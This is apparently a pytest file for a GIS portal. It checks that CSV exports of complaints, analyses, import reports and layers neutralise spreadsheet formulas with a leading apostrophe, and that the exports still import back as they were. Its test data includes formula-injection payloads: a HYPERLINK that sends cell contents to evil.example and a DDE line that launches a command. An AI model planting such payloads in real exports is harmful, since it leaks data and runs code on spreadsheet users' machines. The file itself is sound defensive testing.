"""No CSV the portal writes holds a live spreadsheet formula (gisportal.spreadsheets): the staff export of
complaints, analyses, import reports, layer and table exports (open data). A layer's CSV export still imports
back as it was: the importer takes the apostrophe off again."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from etl.export import export_layer
from etl.pipeline import import_file
from gisportal import spreadsheets
from gisportal.api.analyses import Result
from gisportal.api.exports import as_csv
from gisportal.scorecards.models import PerformanceCriterion
from layers.models import CollectionRoute, Complaint, ServicePoint
from tests.conftest import Town

# What Excel, LibreOffice and Sheets run as a formula, and what they do not.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Voir")', "+216 71 000 000", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]
FORMULAS += ["\t=1+1", "\r=1+1", "'=already quoted"]
PLAIN = ["Conteneur plein", "", "1-2 rue X", "a=b", "'quoted", "صيدلية النخيل"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_a_text_that_would_run_gets_an_apostrophe_and_nothing_else_changes() -> None:
    assert [spreadsheets.text_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [spreadsheets.text_cell(v) for v in PLAIN] == PLAIN
    assert [spreadsheets.text_cell(v) for v in (-5, 3.5, None)] == [-5, 3.5, None]  # numbers are numbers


@given(st.lists(st.one_of(st.none(), st.text(alphabet="'=+-@\t\rab ", max_size=6)), max_size=8))
def test_restoring_undoes_neutralising(values: list[str | None]) -> None:
    column = pd.Series(values, dtype=object)
    written = spreadsheets.neutralise_column(column)
    assert [spreadsheets.text_cell(v) for v in values] == written.tolist()
    assert spreadsheets.restore_column(written).tolist() == column.tolist()


def test_the_staff_export_of_complaints(client, tozeur: Town, planner_tozeur) -> None:  # type: ignore[no-untyped-def]
    Complaint.objects.filter(pk=tozeur.complaint.pk).update(description=FORMULAS[0])
    client.force_login(planner_tozeur)
    response = client.get("/en/staff/complaints/export.csv")
    header, row = cells(b"".join(response.streaming_content).decode())
    assert row[header.index("description")] == "'" + FORMULAS[0]
    assert float(row[header.index("lon")]) == tozeur.complaint.location.x  # numbers stay numbers


def test_an_analysis_as_csv() -> None:
    result = Result(["name", "count"], [(value, -1) for value in FORMULAS + PLAIN])
    _header, *rows = cells(as_csv(result))
    assert [row[0] for row in rows] == [spreadsheets.text_cell(v) for v in FORMULAS + PLAIN]
    assert {row[1] for row in rows} == {"-1"}


def test_an_import_report(tozeur: Town, tmp_path: Path) -> None:
    path = tmp_path / "points.csv"
    path.write_text('kind,name,lon,lat\nwaste_container,"=1+1",8.13,40\n', encoding="utf-8")
    summary = import_file(path, layer="service-points", municipality="6211", report=tmp_path / "report.csv")
    assert summary.rejected == 1
    header, row = cells(summary.report.read_text(encoding="utf-8"))  # type: ignore[union-attr]
    assert row[header.index("name")] == "'=1+1"


# (GDAL's CSV driver writes a carriage return as a line feed: that one is not kept, apostrophe or not.)
@pytest.mark.parametrize("name", [v for v in FORMULAS + PLAIN if v and not v.startswith("\r")])
def test_a_layer_export_neutralises_and_imports_back_as_it_was(tozeur: Town, tmp_path: Path, name: str) -> None:
    ServicePoint.objects.filter(pk=tozeur.container.pk).update(name=name, opening_hours=name)
    summary = export_layer("service-points", fmt="csv", path=tmp_path / "points.csv")
    header, row = cells(summary.path.read_text(encoding="utf-8"))
    assert row[header.index("name")] == row[header.index("opening_hours")] == spreadsheets.text_cell(name)

    CollectionRoute.service_points.through.objects.all().delete()
    Complaint.objects.update(service_point=None)
    ServicePoint.objects.all().delete()
    again = import_file(summary.path, layer="service-points", source_crs="4326", report=tmp_path / "report.csv")
    assert (again.imported, again.rejected) == (1, 0)
    assert ServicePoint.objects.values_list("name", "opening_hours").get() == (name, name)


def test_a_table_export_neutralises_and_imports_back_as_it_was(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    PerformanceCriterion.objects.create(code="-1", name_fr=FORMULAS[0], name_ar="@x", max_score=-5, level="criterion")
    summary = export_layer("performance-criteria", fmt="csv", path=tmp_path / "criteria.csv")
    header, row = cells(summary.path.read_text(encoding="utf-8-sig"))
    assert [row[header.index(n)] for n in ("code", "name_fr", "name_ar", "max_score")] == [
        "'-1",
        "'" + FORMULAS[0],
        "'@x",
        "-5.0",
    ]

    before = list(PerformanceCriterion.objects.values_list("code", "name_fr", "name_ar", "max_score"))
    PerformanceCriterion.objects.all().delete()
    assert import_file(summary.path, layer="performance-criteria", report=tmp_path / "report.csv").imported == 1
    assert list(PerformanceCriterion.objects.values_list("code", "name_fr", "name_ar", "max_score")) == before
